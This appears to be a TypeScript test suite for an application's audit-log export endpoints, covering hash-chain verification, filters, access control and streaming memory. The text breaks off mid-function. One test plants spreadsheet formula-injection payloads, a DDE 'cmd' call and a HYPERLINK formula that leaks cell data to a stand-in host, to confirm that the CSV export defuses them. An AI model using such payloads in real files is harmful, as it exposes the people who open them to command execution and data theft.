import { spawn } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { Transform } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import pino from 'pino';
import { EVENT_MEMBERS, eventSelectList, TEXT_FORMATS } from '../../src/modules/audit/audit-event.sql';
import { eventHash, HashedEvent } from '../../src/modules/audit/audit-hash';
import { Role } from '../../src/modules/auth/caller';
import { logger } from '../../src/shared/logger';
import { startBenchServer } from '../../bench/servers';
import { parseCsv } from '../helpers/csv';
import { authHeader, dataOf, startTestApi, TEST_AUTH_SECRET, TestApi } from '../helpers/test-api';

/**
 * GET /export/audit.ndjson and /export/audit.csv: every event with its chain fields, re-verifiable
 * offline with src/cli/verify-audit-export.mjs, the same filters as auditTrail, and flat memory.
 */

const ROOT = path.resolve(__dirname, '../..');

const VERIFIER = path.join(ROOT, 'src/cli/verify-audit-export.mjs');
const FIELDS = [
  'sequence',
  'id',
  'occurredAt',
  'subjectType',
  'subjectId',
  'action',
  'actorSub',
  'actorRole',
  'actorCountry',
  'countryCodes',
  'fromStatus',
  'toStatus',
  'version',
  'note',
  'evidenceUrl',
  'effectiveOn',
  'changes',
  'state',
  'prevHash',
  'hash',
];
const NULLABLE_TEXT = new Set(['actorCountry', 'fromStatus', 'toStatus', 'note', 'evidenceUrl', 'effectiveOn']);

let api: TestApi;
type Headers = Record<string, string>;
let admin: Headers;
let auditor: Headers;
let partner: Headers;
let tmp: string;

const q = (sql: string, params?: unknown[]) => api.db.query(sql, params);

const exportUrl = (format: 'ndjson' | 'csv', query = '') =>
  `${api.url.replace(/\/graphql$/, '')}/export/audit.${format}${query ? `?${query}` : ''}`;

async function download(format: 'ndjson' | 'csv', query = '', headers: Headers = auditor) {
  const response = await fetch(exportUrl(format, query), { headers });
  return { status: response.status, headers: response.headers, text: await response.text() };
}

const ndjsonLines = (text: string) => text.split('\n').filter((line) => line !== '');

interface RunResult {
  code: number | null;
  stdout: string;
  stderr: string;
}

function run(command: string, args: string[]): Promise<RunResult> {
  return new Promise((resolve, reject) => {
    const child = spawn(command, args, { cwd: ROOT });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (chunk) => (stdout += chunk));
    child.stderr.on('data', (chunk) => (stderr += chunk));
    child.on('error', reject);
    child.on('close', (code) => resolve({ code, stdout, stderr }));
  });
}

/** `node src/cli/verify-audit-export.mjs [--filtered] file` on the given NDJSON text. */
async function verifyExport(text: string, filtered = false): Promise<RunResult> {
  const file = path.join(tmp, `${randomUUID()}.ndjson`);
  fs.writeFileSync(file, text);
  return run(process.execPath, [VERIFIER, ...(filtered ? ['--filtered'] : []), file]);
}

/** A cell as the export wrote it back into its value: one leading quote, the spreadsheet-safety prefix, removed. */
const cellValue = (cell: string | null) => (cell?.startsWith("'") ? cell.slice(1) : cell);

/** A CSV row back into the event it was written from (JSON members as JSON, empty as null). */
function eventFromCsv(header: (string | null)[], row: (string | null)[]): Record<string, unknown> {
  expect(row).toHaveLength(header.length);
  const event: Record<string, unknown> = {};
  header.forEach((name, i) => {
    const value = cellValue(row[i]);
    if (name === null) return;
    if (name === 'sequence' || name === 'version') event[name] = Number(value);
    else if (name === 'countryCodes' || name === 'changes') event[name] = JSON.parse(value ?? 'null');
    else if (name === 'state') event[name] = value === null ? null : JSON.parse(value);
    else if (NULLABLE_TEXT.has(name)) event[name] = value;
    else event[name] = value;
  });
  return event;
}

const TRAIL = `query($filter: AuditTrailFilter, $after: String) {
  auditTrail(filter: $filter, first: 100, after: $after) { pageInfo { hasNextPage endCursor } edges { node { sequence hash } } }
}`;

/** The sequences auditTrail returns for a filter, all pages. */
async function trailSequences(filter: Record<string, unknown>): Promise<number[]> {
  const sequences: number[] = [];
  let after: string | null = null;
  let connection: any;
  do {
    connection = dataOf(await api.graphql(TRAIL, { filter, after }, auditor)).auditTrail;
    sequences.push(...connection.edges.map((e: any) => e.node.sequence));
    after = connection.pageInfo.endCursor;
  } while (connection.pageInfo.hasNextPage);
  return sequences;
}

const SPECIAL_NOTE = 'Delayed, again: the "final" permit\nneeds a second review — Prüfung, 审查';
let commitmentId: string;
let projectId: string;

beforeAll(async () => {
  api = await startTestApi();
  tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'audit-export-'));
  admin = await authHeader({ sub: 'admin-1', role: Role.ADMIN });
  auditor = await authHeader({ sub: 'auditor-1', role: Role.AUDITOR });
  partner = await authHeader({ sub: 'partner-in-1', role: Role.PARTNER, country: 'IN' });
  const created = dataOf(
    await api.graphql(
      `mutation($input: CreateCommitmentInput!) { createCommitment(input: $input) { commitment { id } } }`,
      {
        input: {
          title: 'Export target, with a comma',
          kind: 'FUNDING',
          instrument: 'MOU',
          status: 'ANNOUNCED',
          parties: [{ countryCode: 'IN', role: 'LEAD' }, { countryCode: 'DE' }],
          mineralCodes: ['LITHIUM'],
          amount: { amount: '12.5', currency: 'EUR' },
        },
      },
      partner,
    ),
  ).createCommitment;
  commitmentId = created.commitment.id;
  projectId = dataOf(
    await api.graphql(
      `mutation($input: CreateProjectInput!) { createProject(input: $input) { project { id } } }`,
      { input: { name: 'Export project', kind: 'REFINING', participants: [{ countryCode: 'FR', role: 'LEAD' }] } },
      admin,
    ),
  ).createProject.project.id;
  const change = (input: Record<string, unknown>, headers: Headers) =>
    api
      .graphql(
        `mutation($input: ChangeCommitmentStatusInput!) { changeCommitmentStatus(input: $input) { commitment { version } } }`,
        { input: { commitmentId, ...input } },
        headers,
      )
      .then(dataOf);
  await change({ expectedVersion: 1, status: 'IN_PROGRESS', effectiveOn: '2026-02-01' }, partner);
  await change({ expectedVersion: 2, status: 'DELAYED', note: SPECIAL_NOTE, partyCountryCode: 'IN' }, admin);
  dataOf(
    await api.graphql(
      `mutation($input: UpdateCommitmentInput!) { updateCommitment(input: $input) { commitment { version } } }`,
      {
        input: {
          commitmentId,
          expectedVersion: 3,
          title: 'Export target "renamed"',
          parties: [{ countryCode: 'IN', role: 'LEAD' }, { countryCode: 'JP' }],
        },
      },
      partner,
    ),
  );
  dataOf(
    await api.graphql(
      `mutation($input: LinkProjectToCommitmentInput!) { linkProjectToCommitment(input: $input) { project { version } } }`,
      { input: { projectId, commitmentId, expectedVersion: 1 } },
      admin,
    ),
  );
}, 60_000);
afterAll(async () => {
  await api?.close();
  if (tmp) fs.rmSync(tmp, { recursive: true, force: true });
});

describe('the full export', () => {
  let ndjson: string;
  let events: Record<string, any>[];
  let count: number;

  beforeAll(async () => {
    const response = await download('ndjson');
    expect(response.status).toBe(200);
    ndjson = response.text;
    events = ndjsonLines(ndjson).map((line) => JSON.parse(line));
    [{ count }] = await q('SELECT count(*)::int AS count FROM audit_events');
  });

  it('NDJSON (AUDITOR): one line per event, in sequence order, every member including prevHash and hash, as stored', async () => {
    const response = await download('ndjson');
    expect(response.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="audit.ndjson"');
    expect(ndjson.endsWith('\n')).toBe(true);
    expect(events).toHaveLength(count);
    expect(events.map((e) => e.sequence)).toEqual(Array.from({ length: count }, (_, i) => i + 1));
    for (const event of events) expect(Object.keys(event)).toEqual(FIELDS);
    const stored: { sequence: number; prev_hash: string; hash: string; note: string | null }[] = await q(
      'SELECT sequence, prev_hash, hash, note FROM audit_events ORDER BY sequence',
    );
    expect(events.map((e) => [e.sequence, e.prevHash, e.hash, e.note])).toEqual(
      stored.map((r) => [r.sequence, r.prev_hash, r.hash, r.note]),
    );
    // Every line hashes to its hash, linked to the previous line.
    events.forEach(({ prevHash, hash, ...event }, index) => {
      expect(prevHash).toBe(index === 0 ? '0'.repeat(64) : events[index - 1].hash);
      expect(eventHash(prevHash, event as HashedEvent)).toBe(hash);
    });
    expect(events.find((e) => e.note === SPECIAL_NOTE)).toMatchObject({
      action: 'STATUS_CHANGED',
      toStatus: 'DELAYED',
      actorSub: 'admin-1',
    });
  });

  it('NDJSON is byte for byte what row_to_json builds from the members of each event, though it copies the line stored at append', async () => {
    // The format as it was built at export time before lines were stored: the reference the stored lines must equal.
    const members = eventSelectList('e', EVENT_MEMBERS, { ...TEXT_FORMATS, countryCodes: (column) => `to_json(${column})` });
    const [{ built, mismatched }] = await q(
      `SELECT string_agg(built, E'\\n' ORDER BY sequence) || E'\\n' AS built, count(*) FILTER (WHERE line IS DISTINCT FROM built)::int AS mismatched
       FROM (SELECT e.sequence, e.line, (SELECT row_to_json(event)::text FROM (SELECT ${members}) event) AS built FROM audit_events e) x`,
    );
    expect(mismatched).toBe(0);
    expect(ndjson).toBe(built);
  });

  it('events appended before lines were stored (line null) export the same bytes, built as before', async () => {
    // What a database migrated from before AuditEventLines holds: the old events have no line.
    const toggle = (how: 'DISABLE' | 'ENABLE') => q(`ALTER TABLE audit_events ${how} TRIGGER audit_events_no_update_or_delete`);
    const [{ stored }] = await q(
      "SELECT json_agg(json_build_object('sequence', sequence, 'line', line)) AS stored FROM audit_events WHERE sequence <= 3",
    );
    await toggle('DISABLE');
    try {
      await q('UPDATE audit_events SET line = NULL WHERE sequence <= 3');
      const response = await download('ndjson');
      expect(response.text).toBe(ndjson);
    } finally {
      for (const { sequence, line } of stored) await q('UPDATE audit_events SET line = $2 WHERE sequence = $1', [sequence, line]);
      await toggle('ENABLE');
    }
  });

  it('a stored line cannot be forged: the database writes it from the columns, and refuses to change it', async () => {
    const [event] = await q('SELECT sequence, line FROM audit_events ORDER BY sequence DESC LIMIT 1');
    await expect(q('UPDATE audit_events SET line = $2 WHERE sequence = $1', [event.sequence, '{}'])).rejects.toThrow(/append-only/);
    const [after] = await q('SELECT line FROM audit_events WHERE sequence = $1', [event.sequence]);
    expect(after.line).toBe(event.line);
  });

  it('NDJSON re-verifies with verify-audit-export.mjs (exit 0)', async () => {
    const result = await verifyExport(ndjson);
    expect(result).toEqual({ code: 0, stdout: `ok: ${count} events, head ${count} ${events[count - 1].hash}\n`, stderr: '' });
  });

  it('an ADMIN gets the same export', async () => {
    const response = await download('ndjson', '', admin);
    expect(response.status).toBe(200);
    expect(response.text).toBe(ndjson);
  });

  it('a file with one edited line fails (exit 1), naming its sequence', async () => {
    const lines = ndjsonLines(ndjson);
    const index = events.findIndex((e) => e.note === SPECIAL_NOTE);
    const sequence = events[index].sequence;
    lines[index] = JSON.stringify({ ...events[index], note: 'Nothing to see here' });
    const result = await verifyExport(`${lines.join('\n')}\n`);
    expect(result.code).toBe(1);
    expect(result.stderr).toBe(`broken at sequence ${sequence}: hash does not match its content\n`);
    expect(result.stdout).toBe('');

    // Re-hashing the edited line moves the break to the next one, which no longer links.
    const edited: Record<string, any> = { ...events[index], note: 'Nothing to see here' };
    const { prevHash: _p, hash: _h, ...content } = edited;
    lines[index] = JSON.stringify({ ...edited, hash: eventHash(edited.prevHash, content as HashedEvent) });
    const rehashed = await verifyExport(`${lines.join('\n')}\n`);
    expect(rehashed.code).toBe(1);
    expect(rehashed.stderr).toBe(`broken at sequence ${sequence + 1}: does not link to the previous event\n`);
  });

  it('a file with one line removed, or two swapped, fails', async () => {
    const lines = ndjsonLines(ndjson);
    const removed = [...lines.slice(0, 10), ...lines.slice(11)];
    expect(await verifyExport(`${removed.join('\n')}\n`)).toMatchObject({
      code: 1,
      stderr: 'broken at sequence 12: does not link to the previous event\n',
    });
    const swapped = [...lines];
    [swapped[5], swapped[6]] = [swapped[6], swapped[5]];
    expect(await verifyExport(`${swapped.join('\n')}\n`)).toMatchObject({
      code: 1,
      stderr: 'broken at sequence 7: does not link to the previous event\n',
    });
  });

  it('CSV (AUDITOR): a header and one record per event with prevHash and hash, the same events as the NDJSON, and they re-verify', async () => {
    const response = await download('csv');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="audit.csv"');
    const [header, ...rows] = parseCsv(response.text);
    expect(header).toEqual(FIELDS);
    expect(rows).toHaveLength(count);
    const fromCsv = rows.map((row) => eventFromCsv(header, row));
    expect(fromCsv).toEqual(events);
    // The note with a comma, quotes, a line break and non-ASCII text survives the quoting.
    expect(fromCsv.find((e) => e.note === SPECIAL_NOTE)).toBeDefined();
    const result = await verifyExport(fromCsv.map((e) => JSON.stringify(e)).join('\n'));
    expect(result).toMatchObject({ code: 0, stdout: `ok: ${count} events, head ${count} ${events[count - 1].hash}\n` });
  });
});

describe('CSV fidelity', () => {
  it('an event with an empty note survives the CSV round trip and re-verifies', async () => {
    const changed = dataOf(
      await api.graphql(
        `mutation($input: ChangeCommitmentStatusInput!) { changeCommitmentStatus(input: $input) { statusChange { sequence note } } }`,
        { input: { commitmentId, expectedVersion: 4, status: 'IN_PROGRESS', note: '', partyCountryCode: 'IN' } },
        admin,
      ),
    ).changeCommitmentStatus.statusChange;
    const events = ndjsonLines((await download('ndjson')).text).map((line) => JSON.parse(line));
    expect(events.find((e) => e.sequence === changed.sequence).note).toBe('');
    const [header, ...rows] = parseCsv((await download('csv')).text);
    const fromCsv = rows.map((row) => eventFromCsv(header, row));
    expect(fromCsv.find((e) => e.sequence === changed.sequence)!.note).toBe('');
    expect(await verifyExport(fromCsv.map((e) => JSON.stringify(e)).join('\n'))).toMatchObject({ code: 0 });
  });

  it('cells that a spreadsheet would run as formulas (=, +, -, @, tab, CR) get a leading quote and are quoted; the NDJSON keeps them as they are', async () => {
    const notes = ["=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', "'=already quoted", 'plain, = inside'];
    const created = dataOf(
      await api.graphql(
        `mutation($input: CreateCommitmentInput!) { createCommitment(input: $input) { commitment { id version } } }`,
        {
          input: {
            title: 'Formula target',
            kind: 'FUNDING',
            instrument: 'MOU',
            status: 'ANNOUNCED',
            parties: [{ countryCode: 'IN', role: 'LEAD' }],
          },
        },
        admin,
      ),
    ).createCommitment.commitment;
    const formulaActor = await authHeader({ sub: '=HYPERLINK("http://evil.example/?"&A1)', role: Role.ADMIN });
    let version = created.version;
    for (const [index, note] of notes.entries()) {
      const input = { commitmentId: created.id, expectedVersion: version, status: index % 2 === 0 ? 'IN_PROGRESS' : 'DELAYED', note };
      const changed = await api.graphql(
        `mutation($input: ChangeCommitmentStatusInput!) { changeCommitmentStatus(input: $input) { commitment { version } } }`,
        { input },
        index === 0 ? formulaActor : admin,
      );
      version = dataOf(changed).changeCommitmentStatus.commitment.version;
    }
    const subjectId = fromGlobal(created.id);

    const csv = (await download('csv')).text;
    const [header, ...rows] = parseCsv(csv);
    const column = (name: string) => header.indexOf(name);
    const ours = rows.filter((row) => row[column('subjectId')] === subjectId && row[column('action')] === 'STATUS_CHANGED');
    expect(ours.map((row) => row[column('note')])).toEqual(notes.map((note) => (/^[-=+@\t\r']/.test(note) ? `'${note}` : note)));
    expect(ours[0][column('actorSub')]).toBe(`'=HYPERLINK("http://evil.example/?"&A1)`);
    expect(csv).toContain(`"'=cmd|' /C calc'!A0"`);
    // No cell anywhere in the file starts like a formula, and every value is quoted.
    expect(rows.flat().filter((cell) => cell !== null && /^[-=+@\t\r]/.test(cell))).toEqual([]);
    expect(csv.split('\n')[1]).toMatch(/^"\d+","/);

    const ndjson = (await download('ndjson')).text;
    const events = ndjsonLines(ndjson).map((line) => JSON.parse(line));
    const trail = events.filter((e) => e.subjectId === subjectId && e.action === 'STATUS_CHANGED');
    expect(trail.map((e) => e.note)).toEqual(notes);
    expect(trail[0].actorSub).toBe('=HYPERLINK("http://evil.example/?"&A1)');
    expect(await verifyExport(ndjson)).toMatchObject({ code: 0 });
    // Removing one leading quote gives every value back: the CSV holds the same, verifiable events.
    const fromCsv = rows.map((row) => eventFromCsv(header, row));
    expect(fromCsv).toEqual(events);
    expect(await verifyExport(fromCsv.map((e) => JSON.stringify(e)).join('\n'))).toMatchObject({ code: 0 });
  });
});

describe('filtered exports', () => {
  const cases: [string, () => string, () => Record<string, unknown>][] = [
    ['subjectTypes=COMMITMENT', () => 'subjectTypes=COMMITMENT', () => ({ subjectTypes: ['COMMITMENT'] })],
    ['subjectTypes=PROJECT,MEMBERSHIP', () => 'subjectTypes=PROJECT,MEMBERSHIP', () => ({ subjectTypes: ['PROJECT', 'MEMBERSHIP'] })],
    ['subjectGlobalId', () => `subjectGlobalId=${encodeURIComponent(commitmentId)}`, () => ({ subjectGlobalId: commitmentId })],
    ['countryCodes=jp,FR', () => 'countryCodes=jp,FR', () => ({ countryCodes: ['JP', 'FR'] })],
    ['actors', () => 'actors=partner-in-1,admin-1', () => ({ actors: ['partner-in-1', 'admin-1'] })],
    [
      'actions, repeated',
      () => 'actions=STATUS_CHANGED&actions=LINKED,UPDATED',
      () => ({ actions: ['STATUS_CHANGED', 'LINKED', 'UPDATED'] }),
    ],
    [
      'occurredAtFrom and occurredAtTo',
      () => `occurredAtFrom=${encodeURIComponent(timeWindow.from)}&occurredAtTo=${encodeURIComponent(timeWindow.to)}`,
      () => ({ occurredAtFrom: timeWindow.from, occurredAtTo: timeWindow.to }),
    ],
    [
      'several together',
      () => `subjectTypes=COMMITMENT&actions=STATUS_CHANGED,UPDATED&countryCodes=IN`,
      () => ({ subjectTypes: ['COMMITMENT'], actions: ['STATUS_CHANGED', 'UPDATED'], countryCodes: ['IN'] }),
    ],
  ];
  const timeWindow = { from: '', to: '' };

  beforeAll(async () => {
    const rows: { occurred_at: Date }[] = await q('SELECT occurred_at FROM audit_events WHERE subject_id = $1 ORDER BY sequence', [
      fromGlobal(commitmentId),
    ]);
    timeWindow.from = rows[1].occurred_at.toISOString();
    timeWindow.to = rows[3].occurred_at.toISOString();
  });

  it.each(cases)(
    '%s: exactly the events auditTrail returns for the same filter, and they verify with --filtered',
    async (_name, query, filter) => {
      const expected = await trailSequences(filter());
      const [{ count }] = await q('SELECT count(*)::int AS count FROM audit_events');
      expect(expected.length).toBeGreaterThan(0);
      expect(expected.length).toBeLessThan(count);
      for (const format of ['ndjson', 'csv'] as const) {
        const response = await download(format, query());
        expect(response.status).toBe(200);
        const sequences =
          format === 'ndjson'
            ? ndjsonLines(response.text).map((line) => JSON.parse(line).sequence)
            : parseCsv(response.text)
                .slice(1)
                .map((row) => Number(row[0]));
        expect(sequences).toEqual(expected);
      }
      const { text } = await download('ndjson', query());
      expect(await verifyExport(text, true)).toMatchObject({
        code: 0,
        stdout: `ok: ${expected.length} events, head ${expected[expected.length - 1]} ${JSON.parse(ndjsonLines(text).pop()!).hash}\n`,
      });
    },
  );

  it('subjectTypes=COMMITMENT skips sequences: it verifies only with --filtered, and an edited line still fails', async () => {
    const { text } = await download('ndjson', 'subjectTypes=COMMITMENT');
    const lines = ndjsonLines(text);
    const sequences = lines.map((line) => JSON.parse(line).sequence);
    const gap = sequences.findIndex((s, i) => i > 0 && s !== sequences[i - 1] + 1);
    expect(gap).toBeGreaterThan(0);
    expect(await verifyExport(text)).toMatchObject({
      code: 1,
      stderr: `broken at sequence ${sequences[gap]}: does not link to the previous event\n`,
    });
    expect(await verifyExport(text, true)).toMatchObject({ code: 0 });
    const edited = JSON.parse(lines[gap]);
    lines[gap] = JSON.stringify({ ...edited, actorSub: 'someone-else' });
    expect(await verifyExport(lines.join('\n'), true)).toMatchObject({
      code: 1,
      stderr: `broken at sequence ${edited.sequence}: hash does not match its content\n`,
    });
  });
});

function fromGlobal(globalId: string): string {
  return Buffer.from(globalId, 'base64url').toString('utf8').split(':')[1];
}

describe('who may export', () => {
  it.each(['ndjson', 'csv'] as const)('%s: PARTNER 403, no token 403, bad token 401, AUDITOR and ADMIN 200', async (format) => {
    const expired = await authHeader({ sub: 'auditor-1', role: Role.AUDITOR }, -60);
    const refusals: [Headers, number, string][] = [
      [partner, 403, 'FORBIDDEN'],
      [{}, 403, 'FORBIDDEN'],
      [{ authorization: 'Bearer not-a-token' }, 401, 'UNAUTHENTICATED'],
      [{ authorization: `Bearer ${auditor.authorization.slice(7, -4)}AAAA` }, 401, 'UNAUTHENTICATED'],
      [{ authorization: 'Basic YXVkaXRvcjpwYXNz' }, 401, 'UNAUTHENTICATED'],
      [expired, 401, 'UNAUTHENTICATED'],
    ];
    for (const [headers, status, code] of refusals) {
      const response = await download(format, '', headers);
      expect({ status: response.status, code: JSON.parse(response.text).errors?.[0]?.extensions?.code }).toEqual({ status, code });
      expect(response.headers.get('content-type')).toMatch(/^application\/json/);
      expect(response.text).not.toContain('prevHash');
    }
    expect((await download(format, '', partner)).text).toMatch(/A PARTNER may not read audit trail/);
    for (const headers of [auditor, admin]) expect((await download(format, '', headers)).status).toBe(200);
  });

  /** Both formats answer 400 BAD_USER_INPUT naming the parameter; a PARTNER gets 403 and learns nothing about the filter. */
  async function expectRefusedParameter(query: string, argument: string, message: RegExp) {
    for (const format of ['ndjson', 'csv'] as const) {
      const response = await download(format, query);
      expect(response.status).toBe(400);
      const body = JSON.parse(response.text);
      expect(body.errors).toHaveLength(1);
      expect(body.errors[0]).toMatchObject({ extensions: { code: 'BAD_USER_INPUT', argument } });
      expect(body.errors[0].message).toMatch(message);
    }
    expect((await download('ndjson', query, partner)).status).toBe(403);
  }

  it.each([
    ['subjectTypes=COMMITMENT,BOGUS', 'subjectTypes', /Unknown subjectTypes: BOGUS/],
    ['actions=DELETED', 'actions', /Unknown actions: DELETED/],
    ['occurredAtFrom=yesterday', 'occurredAtFrom', /occurredAtFrom must be an ISO 8601 date-time/],
    ['occurredAtTo=2026-13-45T00:00:00Z', 'occurredAtTo', /occurredAtTo must be an ISO 8601 date-time/],
    ['subjectGlobalId=not-an-id', 'subjectGlobalId', /Malformed ID "not-an-id"/],
  ])('an unknown filter value (%s) is 400 BAD_USER_INPUT naming the parameter', async (query, argument, message) => {
    await expectRefusedParameter(query, argument, message);
  });

  it.each([
    [
      'bogus=1',
      'bogus',
      /Unknown query parameter "bogus" \(allowed: subjectTypes, subjectGlobalId, countryCodes, actors, actions, occurredAtFrom, occurredAtTo\)/,
    ],
    // Names from before the rename are refused, not ignored: ignoring one would export more than was asked for.
    ['from=2026-01-12T00:00:00Z', 'from', /Unknown query parameter "from"/],
    ['subjectId=x', 'subjectId', /Unknown query parameter "subjectId"/],
    ['actors[]=x', 'actors[]', /Unknown query parameter "actors\[\]"/],
    ['actors=admin-1&subjectType=PROJECT', 'subjectType', /Unknown query parameter "subjectType"/],
    ['subjectGlobalId=a&subjectGlobalId=b', 'subjectGlobalId', /subjectGlobalId takes one value, not 2/],
    ['occurredAtFrom=2026-01-01T00:00:00Z&occurredAtFrom=2026-02-01T00:00:00Z', 'occurredAtFrom', /occurredAtFrom takes one value, not 2/],
    ['countryCodes=', 'countryCodes', /countryCodes needs at least one value/],
    ['actors=,', 'actors', /actors needs at least one value/],
  ])('an unknown or malformed parameter (%s) is 400 BAD_USER_INPUT naming it, never ignored', async (query, argument, message) => {
    await expectRefusedParameter(query, argument, message);
  });

  describe('a NUL byte in a filter', () => {
    const lines: string[] = [];
    const streamSym = pino.symbols.streamSym as unknown as keyof typeof logger;
    let originalStream: unknown;
    let originalLevel: string;
    beforeAll(() => {
      originalLevel = logger.level;
      originalStream = logger[streamSym];
      (logger as any)[streamSym] = { write: (line: string) => void lines.push(line) };
      logger.level = 'trace';
    });
    afterAll(() => {
      logger.level = originalLevel;
      (logger as any)[streamSym] = originalStream;
    });

    it.each([
      ['actors=admin-1,%00', 'actors'],
      ['countryCodes=I%00N', 'countryCodes'],
      ['subjectGlobalId=%00', 'subjectGlobalId'],
      ['occurredAtFrom=2026-01-01T00:00:00Z%00', 'occurredAtFrom'],
    ])('%s is 400 BAD_USER_INPUT naming the parameter, and logged at info level at most', async (query, argument) => {
      lines.length = 0;
      await expectRefusedParameter(query, argument, /must not contain a NUL character/);
      expect(lines.map((line) => JSON.parse(line)).filter((entry) => entry.level > 30)).toEqual([]);
    });
  });
});

describe('memory: streaming 200,000 events', () => {
  const BULK = 200_000;
  const BATCH = 5_000;
  let total: number;
  let mostCloseListeners = 0;

  /**
   * Appends BULK valid events after the current head, in one transaction: hashed in Node with eventHash,
   * inserted with INSERT ... SELECT FROM unnest(...) in batches; the next batch is hashed while the last one inserts.
   */
  async function insertChainedEvents(): Promise<void> {
    const subjects = Array.from({ length: 50 }, () => randomUUID());
    const base = Date.now();
    await api.db.transaction(async (manager) => {
      // Batches of 5,000 rows, each line built by a trigger, took more than the pool's 5 s each on a busy machine.
      await manager.query('SET LOCAL statement_timeout = 0');
      // The application's append lock, so nothing else appends meanwhile.
      await manager.query('SELECT pg_advisory_xact_lock(7301001)');
      let [{ sequence, hash }] = await manager.query(
        'SELECT sequence::int AS sequence, hash FROM audit_events ORDER BY sequence DESC LIMIT 1',
      );
      const batchOf = (start: number): unknown[][] => {
        const columns: unknown[][] = Array.from({ length: 20 }, () => []);
        for (let i = start; i < Math.min(start + BATCH, BULK); i++) {
          sequence += 1;
          const subjectId = subjects[i % subjects.length];
          const event: HashedEvent = {
            sequence,
            id: randomUUID(),
            occurredAt: new Date(base + Math.floor(i / 1000)).toISOString(),
            subjectType: 'MEETING',
            subjectId,
            action: 'UPDATED',
            actorSub: 'bulk-loader',
            actorRole: 'ADMIN',
            actorCountry: null,
            countryCodes: ['DE', 'FR'],
            fromStatus: null,
            toStatus: null,
            version: i + 2,
            note: i % 7 === 0 ? `bulk note ${i}, with "quotes"` : null,
            evidenceUrl: null,
            effectiveOn: i % 11 === 0 ? '2026-01-15' : null,
            changes: { title: { old: `Meeting ${i}`, new: `Meeting ${i + 1}` } },
            state: { id: subjectId, title: `Meeting ${i + 1}`, version: i + 2, city: 'Ottawa' },
          };
          const next = eventHash(hash, event);
          const values = [
            event.sequence,
            event.id,
            event.occurredAt,
            event.subjectType,
            event.subjectId,
            event.action,
            event.actorSub,
            event.actorRole,
            event.actorCountry,
            `{${event.countryCodes.join(',')}}`,
            event.fromStatus,
            event.toStatus,
            event.version,
            event.note,
            event.evidenceUrl,
            event.effectiveOn,
            JSON.stringify(event.changes),
            JSON.stringify(event.state),
            hash,
            next,
          ];
          values.forEach((value, c) => columns[c].push(value));
          hash = next;
        }
        return columns;
      };
      const insert = (columns: unknown[][]) =>
        manager.query(
          `INSERT INTO audit_events (sequence, id, occurred_at, subject_type, subject_id, action, actor_sub, actor_role, actor_country, country_codes,
             from_status, to_status, version, note, evidence_url, effective_on, changes, state, prev_hash, hash)
           SELECT u.sequence, u.id, u.occurred_at, u.subject_type, u.subject_id, u.action, u.actor_sub, u.actor_role, u.actor_country, u.country_codes::varchar[],
             u.from_status, u.to_status, u.version, u.note, u.evidence_url, u.effective_on::date, u.changes::jsonb, u.state::jsonb, u.prev_hash, u.hash
           FROM unnest($1::bigint[], $2::uuid[], $3::timestamptz[], $4::text[], $5::uuid[], $6::text[], $7::text[], $8::text[], $9::text[], $10::text[],
             $11::text[], $12::text[], $13::int[], $14::text[], $15::text[], $16::text[], $17::text[], $18::text[], $19::text[], $20::text[])
             AS u(sequence, id, occurred_at, subject_type, subject_id, action, actor_sub, actor_role, actor_country, country_codes,
                  from_status, to_status, version, note, evidence_url, effective_on, changes, state, prev_hash, hash)`,
          columns,
        );
      let pending: Promise<unknown> = Promise.resolve();
      for (let start = 0; start < BULK; start += BATCH) {
        const columns = batchOf(start);
        await pending;
        pending = insert(columns);
      }
      await pending;
    });
  }

  beforeAll(async () => {
    const started = Date.now();
    const [{ count: before }] = await q('SELECT count(*)::int AS count FROM audit_events');
    await insertChainedEvents();
    // Statistics as autovacuum would have them by now, so the planner reads the trail in index order.
    await q('ANALYZE audit_events');
    [{ count: total }] = await q('SELECT count(*)::int AS count FROM audit_events');
    expect(total).toBe(before + BULK);
    console.info(`inserted ${BULK} chained audit events in ${Date.now() - started} ms`);
    // Generous: each row's export line is built by a trigger, and on a busy machine this took over two minutes.
  }, 600_000);

  it('the bulk events continue the real chain (verifyAuditTrail across the junction and the tail)', async () => {
    const [{ max }] = await q('SELECT max(sequence)::int AS max FROM audit_events');
    expect(max).toBe(total);
    const junction = total - BULK;
    const VERIFY = `query($from: Int, $to: Int) { verifyAuditTrail(fromSequence: $from, toSequence: $to) { ok checkedEvents firstBrokenSequence headSequence } }`;
    expect(dataOf(await api.graphql(VERIFY, { from: junction - 5, to: junction + 5000 }, auditor)).verifyAuditTrail).toEqual({
      ok: true,
      checkedEvents: 5006,
      firstBrokenSequence: null,
      headSequence: total,
    });
    expect(dataOf(await api.graphql(VERIFY, { from: total - 1000 }, auditor)).verifyAuditTrail).toMatchObject({
      ok: true,
      checkedEvents: 1001,
    });
  });

  /**
   * Streams GET /export/audit.ndjson from `baseUrl` into a file over node:http (fetch's Readable.fromWeb piped into a
   * file stream is itself slow under back-pressure), sampling `rss` every 20 ms from just before the request.
   */
  async function streamExport(file: string, baseUrl: string, rss: () => Promise<number>) {
    const startRss = await rss();
    let peakRss = startRss;
    let sampling = true;
    const sampler = (async () => {
      while (sampling) {
        peakRss = Math.max(peakRss, await rss());
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
    })();
    let lines = 0;
    let bytes = 0;
    let mostCloseListeners = 0;
    const countLines = new Transform({
      transform(chunk: Buffer, _encoding, callback) {
        bytes += chunk.length;
        for (let at = chunk.indexOf(10); at !== -1; at = chunk.indexOf(10, at + 1)) lines += 1;
        callback(null, chunk);
      },
    });
    // The in-process server's side of the request, to watch the listeners it keeps on its response.
    const watch = (request: http.IncomingMessage, response: http.ServerResponse) => {
      if (!request.url?.startsWith('/export/')) return;
      const probe = setInterval(() => (mostCloseListeners = Math.max(mostCloseListeners, response.listenerCount('close'))), 20);
      response.once('close', () => clearInterval(probe));
    };
    api.server.httpServer.on('request', watch);
    const started = Date.now();
    try {
      await new Promise<void>((resolve, reject) => {
        http
